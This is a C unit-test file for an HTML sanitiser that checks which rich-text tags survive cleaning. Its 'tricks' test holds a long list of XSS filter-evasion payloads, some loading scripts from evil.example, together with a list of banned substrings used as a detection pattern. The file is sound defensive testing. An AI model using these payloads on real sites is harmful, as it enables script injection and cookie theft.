/* html: what is kept of rich text, and every trick we know of to smuggle
 * something through (the kinds of the OWASP cheat sheet on filter evasion).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "html.h"
#include "mem.h"

static void	*ctx;

static const char *
clean(const char *text)
{
	return html_clean(ctx, text, strlen(text));
}

static void
keeps_formatting(void **state)
{
	(void)state;
	assert_string_equal(clean("<p>One <b>two</b> <i>three</i> <u>four</u> <s>five</s></p>"),
	    "<p>One <strong>two</strong> <em>three</em> <u>four</u> <s>five</s></p>");
	assert_string_equal(clean("<h1>A</h1><h3>B</h3><h4>C</h4>"), "<h3>A</h3><h3>B</h3><h4>C</h4>");
	assert_string_equal(clean("<ol><li>a<ul><li>b</li></ul></li></ol>"),
	    "<ol><li>a<ul><li>b</li></ul></li></ol>");
	assert_string_equal(clean("<div>one</div><div><p>two</p></div>"), "<p>one</p><p>two</p>");
	assert_string_equal(clean("<p class=\"ql-align-center\" style=\"color:red\">x</p>"), "<p>x</p>");
	assert_string_equal(clean("<blockquote>said</blockquote>a<br>b"),
	    "<blockquote>said</blockquote>a<br>b");
	assert_string_equal(clean("<li>alone</li>"), "<p>alone</p>");
}

static void
keeps_links_and_own_pictures(void **state)
{
	(void)state;
	assert_string_equal(clean("<a href=\"https://example.com/?a=1&amp;b=2\">x</a>"),
	    "<a href=\"https://example.com/?a=1&amp;b=2\" rel=\"nofollow noopener\" target=\"_blank\">x</a>");
	assert_string_equal(clean("<a href=\"https://www.youtube.com/watch?v=1\">x</a>"),
	    "<a href=\"https://www.youtube.com/watch?v=1\" rel=\"nofollow noopener\" target=\"_blank\""
	    " class=\"video\">x</a>");
	assert_string_equal(clean("<img src=\"/booking/1/pictures/0123456789abcdef0123456789abcdef-1600\" alt=\"A\" onload=x>"),
	    "<img src=\"/booking/1/pictures/0123456789abcdef0123456789abcdef-1600\" alt=\"A\" loading=\"lazy\">");
	assert_string_equal(clean("<img src=\"https://example.com/a.png\">y"), "y");
	assert_string_equal(clean("<img src=\"/booking/1/pictures/../../api\">y"), "y");
}

static void
plain_text_keeps_its_lines(void **state)
{
	(void)state;
	assert_string_equal(clean("One & two\nthree\n\nfour"), "<p>One &amp; two<br>three</p><p>four</p>");
	assert_string_equal(clean("\n\nx\n"), "<p>x</p>");
	assert_string_equal(clean(""), "");
	assert_string_equal(clean("<p><br></p><p> </p>"), "");
}

/* Nothing that runs, loads, frames or posts is left of any of these. */
static void
tricks(void **state)
{
	static const char *const	attacks[] = {
		"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
		"<scr<script>ipt>alert(1)</scr</script>ipt>",
		"<IMG SRC=\"javascript:alert('XSS');\">",
		"<IMG SRC=javascript:alert('XSS')>",
		"<IMG SRC=JaVaScRiPt:alert('XSS')>",
		"<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
		"<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
		"<a onmouseover=alert(document.cookie)>xxs link</a>",
		"<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
		"<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
		"<IMG SRC=# onmouseover=\"alert('xxs')\">",
		"<IMG SRC= onmouseover=\"alert('xxs')\">",
		"<IMG onmouseover=\"alert('xxs')\">",
		"<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
		"<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097\">",
		"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
		"<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>x</a>",
		"<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>x</a>",
		"<a href=\"jav\tascript:alert('XSS');\">x</a>",
		"<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
		"<a href=\"jav&#x0A;ascript:alert('XSS');\">x</a>",
		"<a href=\"jav&#x0D;ascript:alert('XSS');\">x</a>",
		"<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
		"<a href=\"\x01javascript:alert(1)\">x</a>",
		"<a href=\"java\0script:alert(1)\">x</a>",
		"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">x</a>",
		"<a href=\"vbscript:msgbox(1)\">x</a>",
		"<a href=\"//evil.example\">x</a>",
		"<a href=\"/account/sign-out\">x</a>",
		"<a href='javascript://https://x%0aalert(1)'>x</a>",
		"<SCRIPT/XSS SRC=\"http://evil.example/x.js\"></SCRIPT>",
		"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
		"<SCRIPT/SRC=\"http://evil.example/x.js\"></SCRIPT>",
		"<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
		"<SCRIPT SRC=http://evil.example/x.js?< B >",
		"<SCRIPT SRC=//evil.example/.j>",
		"<IMG SRC=\"`<javascript:alert>`('XSS')\"",
		"</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
		"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
		"<BODY BACKGROUND=\"javascript:alert('XSS')\">",
		"<IMG DYNSRC=\"javascript:alert('XSS')\">",
		"<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
		"<svg/onload=alert('XSS')>",
		"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
		"<svg><style><img src=x onerror=alert(1)></style></svg>",
		"<BGSOUND SRC=\"javascript:alert('XSS');\">",
		"<BR SIZE=\"&{alert('XSS')}\">",
		"<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
		"<STYLE>@import'http://evil.example/xss.css';</STYLE>",
		"<META HTTP-EQUIV=\"Link\" Content=\"<http://evil.example/xss.css>; REL=stylesheet\">",
		"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
		"<XSS STYLE=\"xss:expression(alert('XSS'))\">",
		"<p style=\"background-image: url(javascript:alert('XSS'))\">x</p>",
		"<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
		"<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
		"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
		"<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
		"<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
		"<DIV STYLE=\"width: expression(alert('XSS'));\">x",
		"<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
		"<BASE HREF=\"javascript:alert('XSS');//\">",
		"<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://evil.example/x.html\"></OBJECT>",
		"<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
		"<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
		"<FORM ACTION=\"https://evil.example\"><INPUT NAME=password><BUTTON FORMACTION=javascript:alert(1)>x</BUTTON></FORM>",
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
		"<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
		"<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<template><script>alert(1)</script></template>",
		"<select><template><style></select><img src=x onerror=alert(1)></style></template></select>",
		"<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
		"<xmp><img src=x onerror=alert(1)></xmp>",
		"<plaintext><img src=x onerror=alert(1)>",
		"<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
		"<details open ontoggle=alert(1)>x</details>",
		"<a href=\"https://ok.example\" onclick=alert(1) style=x id=y name=z>x</a>",
		"<a href='https://x/\"onmouseover=\"alert(1)'>x</a>",
		"<img src='/booking/1/pictures/0123456789abcdef0123456789abcdef-1600' alt='\"><script>alert(1)</script>'>",
		"<![CDATA[<script>alert(1)</script>]]>",
		"<?xml version=\"1.0\"?><script>alert(1)</script>",
		"\xef\xbb\xbf<script>alert(1)</script>",
		"%3Cscript%3Ealert(1)%3C/script%3E<b>",
	};
	static const char *const	never[] = { "<script", "<img src=x", "<img src=1", "<svg", "<math",
	    "<iframe", "<style", "<object", "<embed", "<form", "<input", "<link", "<meta", "<base",
	    "<template", "<noscript", "<video", "href=\"java", "href=\"data", "href=\"vb", "href=\"/",
	    "<a onm", "<p style", "onclick=", "<p title", NULL };

	(void)state;
	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		const char	*out = clean(attacks[i]);

		assert_non_null(out);
		for (size_t k = 0; never[k] != NULL; k++)
			if (strcasestr(out, never[k]) != NULL)
				fail_msg("%s became %s", attacks[i], out);
		/* A second reading finds the same: nothing hides until it is parsed again. */
		for (const char *again = clean(out); again != NULL; again = NULL)
			for (size_t k = 0; never[k] != NULL; k++)
				assert_null(strcasestr(again, never[k]));
	}
}

/* What would take the parser minutes or all memory is refused, or flattened. */
static void
floods(void **state)
{
	char	*text = mem_zero(ctx, 60001);
	size_t	 n = 0;

	(void)state;
	while (n < 60000 - 3)
		memcpy(text + n, "<b>", 3), n += 3;
	assert_non_null(html_clean(ctx, text, n));
	for (n = 0; n < 30000; n += 14)
		(void)memcpy(text + n, "<b a=0000><i x", 14);
	for (; n < 60000 - 4; n += 4)
		(void)memcpy(text + n, "<p>x", 4);
	(void)html_clean(ctx, text, n);
	for (n = 0; n < 60000 - 5; n += 5)
		(void)memcpy(text + n, "<div>", 5);
	assert_non_null(html_clean(ctx, text, n));
}

static int
begin(void **state)
{
	(void)state;
	ctx = mem_zero(NULL, 1);
	return 0;
}

static int
end(void **state)
{
	(void)state;
	mem_free(ctx);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest	 tests[] = {
		cmocka_unit_test(keeps_formatting),
		cmocka_unit_test(keeps_links_and_own_pictures),
		cmocka_unit_test(plain_text_keeps_its_lines),
		cmocka_unit_test(tricks),
		cmocka_unit_test(floods),
	};

	return cmocka_run_group_tests_name("html", tests, begin, end);
}
